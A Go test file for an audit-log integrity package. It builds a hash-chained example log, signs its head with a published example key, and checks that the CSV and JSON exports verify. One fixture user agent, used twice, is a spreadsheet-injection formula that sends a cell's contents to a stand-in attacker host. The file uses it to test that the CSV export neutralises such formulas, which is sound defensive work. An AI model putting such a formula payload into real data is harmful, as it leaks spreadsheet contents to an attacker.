package integrity_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/auditlogd/auditlogd/internal/audit"
	"github.com/auditlogd/auditlogd/internal/integrity"
	"github.com/auditlogd/auditlogd/internal/role"
)

var updateExample = flag.Bool("update-example", false, "rewrite testdata/example from the example log")

// The worked example of docs/INTEGRITY.md and the fixtures of the
// verify-export command's tests: a small workspace's log, exported as CSV
// and JSON by the export's own encoder, with its signed head and key set. The head is signed with
// RFC 8037's published example key, so the files are the same on every run.

const exWorkspace = "01JDQ3ZK7X9W2Y4V6T8R0P2N4M"

func exampleLog(t testing.TB) []link {
	t.Helper()
	at := func(day, hour, minute int) time.Time {
		return time.Date(2026, 11, day, hour, minute, 7, 250_000_000, time.UTC)
	}
	alice := audit.Actor{ID: "u-alice", Email: hp("alice@acme.example"), Type: audit.ActorUser}
	carol := audit.Actor{ID: "u-carol", Email: hp("carol@contractor.example"), Type: audit.ActorUser}
	web := func(e audit.Event, req string) audit.Event {
		e.IPAddress = hp("198.51.100.23")
		e.UserAgent = hp("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0")
		e.RequestID = hp(req)
		return e
	}
	events := []audit.Event{
		web(audit.Event{ID: "01JDQ40A1B2C3D4E5F6G7H8J9K", Action: audit.MemberAdded, OccurredAt: at(2, 9, 0), Actor: alice,
			Target: &audit.Target{Type: audit.TargetUser, ID: "u-alice", Label: hp("alice@acme.example")},
			Role:   hRole(role.Admin)}, "01JDQ40A1B2C3D4E5F6G7H8REQ"),
		web(audit.Event{ID: "01JDQ41B2C3D4E5F6G7H8J9K0M", Action: audit.EmailInviteCreated, OccurredAt: at(3, 14, 30), Actor: alice,
			Target: &audit.Target{Type: audit.TargetInviteLink, ID: "01JDQ41INVITE0000000000001", Label: hp("carol@contractor.example")},
			Role:   hRole(role.Member)}, "01JDQ41B2C3D4E5F6G7H8J9REQ"),
		// Carol's browser sends a user agent built to run in a spreadsheet:
		// the CSV guards it with a leading apostrophe, the hash covers it as
		// sent.
		{ID: "01JDQ42C3D4E5F6G7H8J9K0M1N", Action: audit.EmailInviteAccepted, OccurredAt: at(4, 8, 15), Actor: carol,
			Target:    &audit.Target{Type: audit.TargetInviteLink, ID: "01JDQ41INVITE0000000000001", Label: hp("carol@contractor.example")},
			Role:      hRole(role.Member),
			IPAddress: hp("203.0.113.77"), UserAgent: hp(`=HYPERLINK("https://evil.example/?leak="&A1,"Open")`),
			RequestID: hp("01JDQ42C3D4E5F6G7H8J9K0REQ")},
		{ID: "01JDQ42C3D4E5F6G7H8J9K0M1P", Action: audit.MemberAdded, OccurredAt: at(4, 8, 15), Actor: carol,
			Target:    &audit.Target{Type: audit.TargetUser, ID: "u-carol", Label: hp("carol@contractor.example")},
			Role:      hRole(role.Member),
			IPAddress: hp("203.0.113.77"), UserAgent: hp(`=HYPERLINK("https://evil.example/?leak="&A1,"Open")`),
			RequestID: hp("01JDQ42C3D4E5F6G7H8J9K0REQ")},
		web(audit.Event{ID: "01JDQ43D4E5F6G7H8J9K0M1N2P", Action: audit.MemberRoleUpdated, OccurredAt: at(5, 16, 45), Actor: alice,
			Target:       &audit.Target{Type: audit.TargetUser, ID: "u-carol", Label: hp("carol@contractor.example")},
			PreviousRole: hRole(role.Member), Role: hRole(role.Admin)}, "01JDQ43D4E5F6G7H8J9K0M1REQ"),
		{ID: "01JDQ44E5F6G7H8J9K0M1N2P3Q", Action: audit.MemberRemoved, OccurredAt: at(6, 0, 0),
			Actor:        audit.Actor{ID: "scim-sync", Type: audit.ActorService},
			Target:       &audit.Target{Type: audit.TargetUser, ID: "u-bob", Label: hp("bob@acme.example")},
			PreviousRole: hRole(role.Member)},
	}
	var h integrity.Hasher
	prev := integrity.ZeroHash
	out := make([]link, len(events))
	for i, e := range events {
		e.WorkspaceID = exWorkspace
		hash, err := h.Event(&e, int64(i+1), prev)
		if err != nil {
			t.Fatal(err)
		}
		out[i] = link{Event: e, Sequence: int64(i + 1), PrevHash: prev, Hash: hash}
		prev = hash
	}
	return out
}

func exampleFiles(t testing.TB) map[string][]byte {
	t.Helper()
	rows := exampleLog(t)
	s := integrity.NewSigner(rfc8037Key(t))
	last := rows[len(rows)-1]
	head, err := s.Sign(integrity.Head{WorkspaceID: exWorkspace, Sequence: last.Sequence, Hash: last.Hash,
		SignedAt: time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	headJSON, _ := json.MarshalIndent(head, "", "  ")
	keysJSON, _ := json.MarshalIndent(s.JWKS(), "", "  ")
	return map[string][]byte{
		"export.csv":  exportFile(t, audit.CSV, rows, nil),
		"export.json": exportFile(t, audit.JSON, rows, nil),
		"head.json":   append(headJSON, '\n'),
		"keys.json":   append(keysJSON, '\n'),
	}
}

// TestExampleFiles keeps testdata/example equal to what the example log
// makes (go test -run TestExampleFiles -update-example rewrites it) and
// checks that both exports verify complete against the head and keys.
func TestExampleFiles(t *testing.T) {
	dir := filepath.Join("testdata", "example")
	files := exampleFiles(t)
	if *updateExample {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, b := range files {
			if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, want := range files {
		got, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatalf("%v (run go test -run TestExampleFiles -update-example)", err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("testdata/example/%s is stale (run go test -run TestExampleFiles -update-example)", name)
		}
	}
	head, err := integrity.ParseSignedHead(files["head.json"])
	if err != nil {
		t.Fatal(err)
	}
	keys, err := integrity.ParseJWKS(files["keys.json"])
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"export.csv", "export.json"} {
		rep, err := integrity.VerifyExport(bytes.NewReader(files[name]), integrity.ExportOptions{Head: &head, Keys: keys})
		if err != nil || !rep.Complete {
			t.Errorf("%s: %v %+v", name, err, rep)
		}
	}
}
